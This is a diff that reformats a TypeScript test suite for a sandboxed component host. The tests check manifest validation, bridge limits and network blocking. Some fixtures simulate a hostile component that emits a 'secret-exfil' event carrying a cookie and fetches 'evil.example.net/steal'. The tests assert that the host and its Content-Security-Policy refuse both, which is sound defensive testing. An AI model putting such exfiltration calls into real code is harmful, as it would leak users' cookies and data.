@@ -69,7 +69,9 @@ describe('render', () => {
     expect(textOf(view.root)).toContain('Hello, B!');
     expect(seen[0]!.props).toEqual({ title: 'B' });
     expect(view.props).toEqual({ title: 'B' });
-    expect(() => render(CARD, { manifest: MANIFEST, strict: true, props: { title: 'A', token: 'x' } })).toThrow(/"token" is not in capabilities\.props, so the host never delivers it \(declared: "title", "onSave"\)/);
+    expect(() => render(CARD, { manifest: MANIFEST, strict: true, props: { title: 'A', token: 'x' } })).toThrow(
+      /"token" is not in capabilities\.props, so the host never delivers it \(declared: "title", "onSave"\)/,
+    );
     const strict = render(CARD, { manifest: MANIFEST, strict: true });
     expect(() => strict.setProps({ nope: 1 })).toThrow(TestingError);
   });
@@ -84,8 +86,12 @@ describe('render', () => {
     expect(bad({ accent: 'red' })).toThrow('"accent" is "red", which is not one of its options: "teal", "plum"');
     expect(bad({ limit: '4' })).toThrow('"limit" is a number field, got "4"');
     expect(bad({ limit: 11 })).toThrow('"limit" is 11, outside its range 1 to 10');
-    expect(bad({ colour: 'x' })).toThrow(/"colour" is not a config field \(config.fields has "greeting", "limit", "accent"\)/);
-    expect(() => view.setConfig({ greeting: 5 } as never)).toThrow(expect.objectContaining({ code: 'testing.config_invalid' }));
+    expect(bad({ colour: 'x' })).toThrow(
+      /"colour" is not a config field \(config.fields has "greeting", "limit", "accent"\)/,
+    );
+    expect(() => view.setConfig({ greeting: 5 } as never)).toThrow(
+      expect.objectContaining({ code: 'testing.config_invalid' }),
+    );
   });
 
   it('fails an undeclared event under strict when the view unmounts, after the mount kept going as in the host', () => {
@@ -103,7 +109,9 @@ describe('render', () => {
     expect(() => view.unmount()).toThrow(
       expect.objectContaining({
         code: 'testing.event_undeclared',
-        message: expect.stringContaining('emitted "secret-exfil", "tracking", which are not in capabilities.events, so the host dropped them (declared: "liked")'),
+        message: expect.stringContaining(
+          'emitted "secret-exfil", "tracking", which are not in capabilities.events, so the host dropped them (declared: "liked")',
+        ),
       }),
     );
     expect(view.mounted).toBe(false);
@@ -124,21 +132,32 @@ describe('render', () => {
     expect(view.dropped).toEqual([{ kind: 'event', name: 'secret-exfil', detail: { cookie: 'x' } }]);
     expect(view).toHaveDropped('secret-exfil');
     expect(view).not.toHaveEmitted('secret-exfil');
-    expect(() => expect(view).toHaveEmitted('secret-exfil')).toThrow(/the host dropped it: it is not in capabilities\.events/);
+    expect(() => expect(view).toHaveEmitted('secret-exfil')).toThrow(
+      /the host dropped it: it is not in capabilities\.events/,
+    );
   });
 
   it('answers function-binding calls from options.functions and refuses other props as the host does', async () => {
     let ctx!: Ctx;
     registerComponent(CARD, (c) => void (ctx = c));
-    const view = render(CARD, { manifest: MANIFEST, props: { onSave: 'saveCard' }, functions: { onSave: (n: number) => ({ saved: n }) } });
+    const view = render(CARD, {
+      manifest: MANIFEST,
+      props: { onSave: 'saveCard' },
+      functions: { onSave: (n: number) => ({ saved: n }) },
+    });
     await expect(ctx.call('onSave', 1)).resolves.toEqual({ saved: 1 });
     expect(view.calls).toEqual([{ prop: 'onSave', name: 'saveCard', args: [1] }]);
     await expect(ctx.call('title')).rejects.toThrow('"title" is not this component\'s function binding.');
-    const failing = render(CARD, { manifest: MANIFEST, functions: { onSave: () => Promise.reject(new Error('quota')) } });
+    const failing = render(CARD, {
+      manifest: MANIFEST,
+      functions: { onSave: () => Promise.reject(new Error('quota')) },
+    });
     await expect(ctx.call('onSave')).rejects.toThrow(/^quota$/);
     failing.unmount();
     render(CARD, { manifest: MANIFEST });
-    await expect(ctx.call('onSave')).rejects.toThrow(/has no answer in this test; pass render\(id, \{ functions: \{ "onSave"/);
+    await expect(ctx.call('onSave')).rejects.toThrow(
+      /has no answer in this test; pass render\(id, \{ functions: \{ "onSave"/,
+    );
   });
 
   it('sizes the frame as the host does', () => {
@@ -191,29 +210,42 @@ describe('render', () => {
 
 describe('render refuses, naming what to fix', () => {
   it('an invalid manifest', () => {
-    expect(() => render(CARD, { manifest: { id: 'Bad Id', name: 'x' } })).toThrow(/the manifest object given to render\(\) is invalid[\s\S]*id\./);
+    expect(() => render(CARD, { manifest: { id: 'Bad Id', name: 'x' } })).toThrow(
+      /the manifest object given to render\(\) is invalid[\s\S]*id\./,
+    );
   });
 
   it('a missing manifest', () => {
-    expect(() => render(CARD, { manifest: '/nowhere/manifest.json' })).toThrow(expect.objectContaining({ code: 'testing.manifest_not_found' }));
+    expect(() => render(CARD, { manifest: '/nowhere/manifest.json' })).toThrow(
+      expect.objectContaining({ code: 'testing.manifest_not_found' }),
+    );
   });
 
   it('an id the manifest does not declare', () => {
     expect(() => render('acme.demo-card.crad', { manifest: MANIFEST })).toThrow(
-      'render("acme.demo-card.crad"): ' + MANIFEST + ' does not declare it, so the host would never mount it. It declares: component "acme.demo-card.card" (contributes.site.components), slot "order.sidebar" (contributes.console.slots). Add it to contributes, or render one of these.',
+      'render("acme.demo-card.crad"): ' +
+        MANIFEST +
+        ' does not declare it, so the host would never mount it. It declares: component "acme.demo-card.card" (contributes.site.components), slot "order.sidebar" (contributes.console.slots). Add it to contributes, or render one of these.',
     );
     expect(() => render('shell', { manifest: MANIFEST })).toThrow(/does not declare it/);
   });
 
   it('an id nothing registered', () => {
-    expect(() => render('order.sidebar', { manifest: MANIFEST })).toThrow(/nothing registered the slot "order.sidebar"[\s\S]*registerSlot\(id, mount\)\. Registered: component "acme.demo-card.card"\./);
+    expect(() => render('order.sidebar', { manifest: MANIFEST })).toThrow(
+      /nothing registered the slot "order.sidebar"[\s\S]*registerSlot\(id, mount\)\. Registered: component "acme.demo-card.card"\./,
+    );
   });
 
   it('a mount that throws', () => {
     registerComponent(CARD, () => {
       throw new Error('no data');
     });
-    expect(() => render(CARD, { manifest: MANIFEST })).toThrow(expect.objectContaining({ code: 'testing.mount_threw', message: expect.stringContaining('mount threw: no data') }));
+    expect(() => render(CARD, { manifest: MANIFEST })).toThrow(
+      expect.objectContaining({
+        code: 'testing.mount_threw',
+        message: expect.stringContaining('mount threw: no data'),
+      }),
+    );
     expect(document.body.children).toHaveLength(0);
   });
 });
@@ -252,7 +284,7 @@ describe('a hostile component', () => {
     expect(render(CARD, { manifest: MANIFEST }).config).toMatchObject({ greeting: 'Hello' });
   });
 
-  it('emitting what a port cannot carry, or more than one message carries, is refused in the frame\'s words, and the mount goes on', () => {
+  it("emitting what a port cannot carry, or more than one message carries, is refused in the frame's words, and the mount goes on", () => {
     registerComponent(CARD, (ctx) => {
       ctx.emit('liked', { fn: () => 1 });
       ctx.emit('liked', 'x'.repeat(64 * 1024));
@@ -261,8 +293,19 @@ describe('a hostile component', () => {
     });
     const view = render(CARD, { manifest: MANIFEST });
     expect(view.dropped).toEqual([
-      { kind: 'refused', name: 'liked', message: expect.stringMatching(/^ctx\.emit\('liked'\): its detail cannot be sent to the host and was dropped: it cannot be copied \(.*could not be cloned.*\)\. Send plain data/) },
-      { kind: 'refused', name: 'liked', message: "ctx.emit('liked'): its detail is over the 64 KB one bridge message carries, so it was dropped. Send less (an id, a summary) and fetch the rest where it is needed." },
+      {
+        kind: 'refused',
+        name: 'liked',
+        message: expect.stringMatching(
+          /^ctx\.emit\('liked'\): its detail cannot be sent to the host and was dropped: it cannot be copied \(.*could not be cloned.*\)\. Send plain data/,
+        ),
+      },
+      {
+        kind: 'refused',
+        name: 'liked',
+        message:
+          "ctx.emit('liked'): its detail is over the 64 KB one bridge message carries, so it was dropped. Send less (an id, a summary) and fetch the rest where it is needed.",
+      },
       { kind: 'refused', name: '42', message: "ctx.emit(number): an event's name is a string; the emit was dropped." },
     ]);
     expect(view.events).toHaveLength(1);
@@ -283,11 +326,13 @@ describe('a hostile component', () => {
     })();
     expect(err).toBeInstanceOf(TestingError);
     expect(err!.code).toBe('testing.emit_unsent');
-    expect(err!.message).toMatch(/emitted 10 events the bridge would not send to the host: ctx\.emit\('liked'\): over the bridge's budget of 1000 sends and 1 MB a second, so it was dropped\..* \(and 5 more\)/);
+    expect(err!.message).toMatch(
+      /emitted 10 events the bridge would not send to the host: ctx\.emit\('liked'\): over the bridge's budget of 1000 sends and 1 MB a second, so it was dropped\..* \(and 5 more\)/,
+    );
     expect(view.mounted).toBe(false);
   });
 
-  it('the budget is per second on the page\'s clock: fake timers open the next window, and a height over budget lands when it does', () => {
+  it("the budget is per second on the page's clock: fake timers open the next window, and a height over budget lands when it does", () => {
     vi.useFakeTimers({ toFake: ['performance', 'setTimeout', 'clearTimeout', 'Date'] });
     try {
       let ctx!: Ctx;
@@ -320,24 +365,48 @@ describe('a hostile component', () => {
     let ctx!: Ctx;
     registerComponent(CARD, (c) => void (ctx = c));
     const answered: unknown[] = [];
-    const view = render(CARD, { manifest: MANIFEST, props: { onSave: 'save' }, functions: { onSave: (...a: unknown[]) => answered.push(a) } });
-    await expect(ctx.call('onSave', () => 1)).rejects.toThrow(new TypeError("ctx.call('onSave'): the arguments cannot be sent to the host: it cannot be copied (() => 1 could not be cloned.); pass plain data (no functions or DOM nodes)."));
-    await expect(ctx.call('onSave', 'x'.repeat(70_000))).rejects.toThrow(/^ctx\.call\('onSave'\): the arguments are over the 64 KB one bridge message carries\.$/);
+    const view = render(CARD, {
+      manifest: MANIFEST,
+      props: { onSave: 'save' },
+      functions: { onSave: (...a: unknown[]) => answered.push(a) },
+    });
+    await expect(ctx.call('onSave', () => 1)).rejects.toThrow(
+      new TypeError(
+        "ctx.call('onSave'): the arguments cannot be sent to the host: it cannot be copied (() => 1 could not be cloned.); pass plain data (no functions or DOM nodes).",
+      ),
+    );
+    await expect(ctx.call('onSave', 'x'.repeat(70_000))).rejects.toThrow(
+      /^ctx\.call\('onSave'\): the arguments are over the 64 KB one bridge message carries\.$/,
+    );
     for (let i = 0; i < 1_000; i++) void ctx.call('onSave', i);
-    await expect(ctx.call('onSave', 'one too many')).rejects.toThrow("ctx.call('onSave'): over the bridge's budget of 1000 sends a second; the call was not made.");
+    await expect(ctx.call('onSave', 'one too many')).rejects.toThrow(
+      "ctx.call('onSave'): over the bridge's budget of 1000 sends a second; the call was not made.",
+    );
     await vi.waitFor(() => expect(answered).toHaveLength(1_000));
     expect(view.calls).toHaveLength(1_000);
   });
 
-  it('counts a call\'s prop and its binding\'s name with its arguments, and refuses a prop that is not a string, as the frame does', async () => {
+  it("counts a call's prop and its binding's name with its arguments, and refuses a prop that is not a string, as the frame does", async () => {
     let ctx!: Ctx;
     registerComponent(CARD, (c) => void (ctx = c));
-    const view = render(CARD, { manifest: MANIFEST, props: { onSave: 'n'.repeat(70_000) }, functions: { onSave: () => 1 } });
-    const tooLarge = "the arguments are over the 64 KB one bridge message carries.";
+    const view = render(CARD, {
+      manifest: MANIFEST,
+      props: { onSave: 'n'.repeat(70_000) },
+      functions: { onSave: () => 1 },
+    });
+    const tooLarge = 'the arguments are over the 64 KB one bridge message carries.';
     await expect(ctx.call('onSave')).rejects.toThrow(new TypeError(`ctx.call('onSave'): ${tooLarge}`));
-    await expect(ctx.call('p'.repeat(70_000))).rejects.toThrow(new TypeError(`ctx.call('${'p'.repeat(60)}…'): ${tooLarge}`));
-    await expect(ctx.call('onSave', new Uint8Array(new ArrayBuffer(1 << 20), 0, 1))).rejects.toThrow(new TypeError(`ctx.call('onSave'): ${tooLarge}`));
-    await expect(ctx.call(5 as never)).rejects.toThrow(new TypeError("ctx.call('5'): the prop to call is a string (the name of the component's function-binding prop); the call was not made."));
+    await expect(ctx.call('p'.repeat(70_000))).rejects.toThrow(
+      new TypeError(`ctx.call('${'p'.repeat(60)}…'): ${tooLarge}`),
+    );
+    await expect(ctx.call('onSave', new Uint8Array(new ArrayBuffer(1 << 20), 0, 1))).rejects.toThrow(
+      new TypeError(`ctx.call('onSave'): ${tooLarge}`),
+    );
+    await expect(ctx.call(5 as never)).rejects.toThrow(
+      new TypeError(
+        "ctx.call('5'): the prop to call is a string (the name of the component's function-binding prop); the call was not made.",
+      ),
+    );
     expect(view.calls).toEqual([]);
   });
 
@@ -365,7 +434,9 @@ describe('the network', () => {
     void ctx;
     await expect((await fetch('https://api.example.com/v1/items')).json()).resolves.toEqual({ ok: true });
     await expect(fetch('https://evil.example.net/steal?c=1')).rejects.toThrow(TypeError);
-    await expect(fetch('/relative')).rejects.toThrow(/Failed to fetch http:\/\/localhost:3000\/relative: refused by the sandbox's Content-Security-Policy \(connect-src\)/);
+    await expect(fetch('/relative')).rejects.toThrow(
+      /Failed to fetch http:\/\/localhost:3000\/relative: refused by the sandbox's Content-Security-Policy \(connect-src\)/,
+    );
     expect(seenUrls).toEqual(['https://api.example.com/v1/items']);
     expect(view.blocked).toEqual([
       {
